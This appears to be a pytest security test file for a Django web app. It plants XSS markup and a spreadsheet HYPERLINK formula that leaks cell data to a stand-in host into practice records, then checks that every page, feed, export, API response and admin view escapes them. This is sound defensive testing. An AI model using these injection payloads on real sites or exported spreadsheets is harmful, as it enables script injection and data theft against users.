"""Script and formula payloads planted in every text and address of a published practice
come out escaped, as text, on every public surface and in the admin."""

import csv
import io
import json
import xml.etree.ElementTree as ElementTree

import pytest

from compendium.models import Practice, PracticeCountry, PracticeTranslation

from . import factories

pytestmark = pytest.mark.django_db

SLUG = "planted-practice"
MARKUP = [
    '<script>alert("planted")</script>',
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "<svg onload=alert(1)>",
]
FORMULA = '=HYPERLINK("http://x.invalid/?leak="&A1,"click me")'


def payload(n: int, *, formula: bool = False) -> str:
    # A word to search by, then every payload; optionally opening with a formula.
    text = f"plantedword {MARKUP[n % 4]} {MARKUP[(n + 1) % 4]}"
    return f"{FORMULA} {text}" if formula else text


TEXT_FIELDS = ["summary", "description", "activities", "results", "lessons", "transferability"]


def plant() -> None:
    pillar = factories.PillarFactory(slug="engage", name=payload(0))
    practice = factories.PracticeFactory(
        slug=SLUG,
        primary_pillar=pillar,
        title=payload(1, formula=True),
        evidence_note=payload(2),
        **{field: payload(n, formula=n == 0) for n, field in enumerate(TEXT_FIELDS)},
    )
    practice.themes.add(factories.ThemeFactory(slug="partnerships", name=payload(3)))
    factories.PracticeCountryFactory(
        practice=practice, country="MX", role=PracticeCountry.Role.ORIGIN
    )
    organisation = factories.OrganisationFactory(
        slug="planted-org",
        name=payload(0),
        acronym="<b>X</b>",
        website='https://x.invalid/"><script>alert(9)</script>',
    )
    factories.PracticeOrganisationFactory(practice=practice, organisation=organisation)
    source = factories.SourceFactory(
        title=payload(1), publisher=payload(2), url='https://x.invalid/"onmouseover="alert(1)'
    )
    factories.SourceReferenceFactory(
        practice=practice, source=source, section=payload(3), excerpt=payload(0)
    )
    factories.KeyFigureFactory(practice=practice, label=payload(1), unit="<i>u</i>")
    for language in ("fr", "es"):
        PracticeTranslation.objects.create(
            practice=practice,
            language=language,
            title=payload(2, formula=True),
            summary=payload(3),
            description=payload(0),
        )
    factories.PracticeFactory(slug="other-practice", title="Other practice")


@pytest.fixture
def planted(db):
    plant()


HTML_PAGES = [
    "/",
    "/about/",
    f"/practices/{SLUG}/",
    f"/fr/practices/{SLUG}/",
    f"/es/practices/{SLUG}/",
    "/practices/",
    "/fr/practices/",
    "/es/practices/",
    "/practices/?q=plantedword",
    "/fr/practices/?q=plantedword",
    "/practices/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    f"/compare/?p={SLUG}&p=other-practice",
    f"/fr/compare/?p={SLUG}&p=other-practice",
    "/countries/",
    "/countries/mx/",
    "/es/countries/mx/",
    "/organisations/planted-org/",
    "/pillars/engage/",
    "/themes/partnerships/",
    "/map/",
]


def assert_escaped(text: str, where: str) -> None:
    for raw in MARKUP + ["<b>X</b>", "<i>u</i>", '"><script>alert(9)']:
        assert raw not in text, f"{raw!r} unescaped on {where}"


@pytest.mark.parametrize("url", HTML_PAGES)
def test_every_public_page_shows_the_planted_payloads_as_text(client, planted, url):
    response = client.get(url)
    html = response.content.decode()

    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/html")
    assert_escaped(html, url)
    if "plantedword" in url or SLUG in url:
        assert "plantedword" in html  # the planted practice is there, escaped


def test_the_organisation_page_links_its_website_with_the_markup_escaped(client, planted):
    html = client.get("/organisations/planted-org/").content.decode()

    assert 'href="https://x.invalid/&quot;&gt;&lt;script&gt;alert(9)&lt;/script&gt;"' in html


def test_the_feed_gives_readers_escaped_html_and_plain_titles(client, planted):
    response = client.get("/feed/")
    atom = "{http://www.w3.org/2005/Atom}"
    entry = next(
        item
        for item in ElementTree.fromstring(response.content).iter(f"{atom}entry")
        if SLUG in item.find(f"{atom}id").text
    )

    # A reader renders an html summary as HTML: the planted markup must reach it escaped.
    assert entry.find(f"{atom}summary").get("type") == "html"
    assert_escaped(entry.find(f"{atom}summary").text, "feed summary")
    assert "&lt;script&gt;" in entry.find(f"{atom}summary").text
    assert entry.find(f"{atom}title").get("type") in (None, "text")


def test_the_sitemap_lists_addresses_only(client, planted):
    text = client.get("/sitemap.xml").content.decode()

    assert f"/practices/{SLUG}/" in text
    assert "plantedword" not in text
    assert_escaped(text, "sitemap")


@pytest.mark.parametrize("extension", ["bib", "ris"])
def test_citations_are_served_as_plain_text_files(client, planted, extension):
    response = client.get(f"/practices/{SLUG}/cite.{extension}")

    assert response.status_code == 200
    assert not response["Content-Type"].startswith("text/html")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "plantedword" in response.content.decode()


def test_the_json_export_and_the_api_are_json_and_exact(client, planted):
    export = client.get("/practices/export.json")
    api = client.get(f"/api/v1/practices/{SLUG}/", HTTP_ACCEPT="text/html,*/*")
    [item] = [row for row in json.loads(b"".join(export.streaming_content)) if row["slug"] == SLUG]

    assert export["Content-Type"] == "application/json"
    assert api["Content-Type"] == "application/json"  # no HTML view, even when asked
    assert item["title"] == payload(1, formula=True)
    assert api.json()["title"] == payload(1, formula=True)


@pytest.mark.parametrize("language", ["", "/fr", "/es"])
def test_the_csv_export_shows_every_planted_formula_as_text(client, planted, language):
    response = client.get(f"{language}/practices/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    [row] = [row for row in rows if row["slug"] == SLUG]

    assert response["Content-Type"].startswith("text/csv")
    for column, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), column
    assert row["title"].startswith("'=HYPERLINK(")


@pytest.mark.parametrize(
    "url",
    [
        "/admin/compendium/practice/",
        "/admin/compendium/practice/?q=plantedword",
        "/admin/compendium/organisation/",
        "/admin/compendium/source/",
    ],
)
def test_admin_lists_show_the_planted_payloads_as_text(admin_client, planted, url):
    response = admin_client.get(url)

    assert response.status_code == 200, url
    assert_escaped(response.content.decode(), url)


def test_admin_change_form_and_history_show_the_planted_payloads_as_text(admin_client, planted):
    practice = Practice.objects.get(slug=SLUG)
    practice.summary = payload(2)
    practice.save()
    for url in (
        f"/admin/compendium/practice/{practice.pk}/change/",
        f"/admin/compendium/practice/{practice.pk}/history/",
    ):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content.decode(), url)
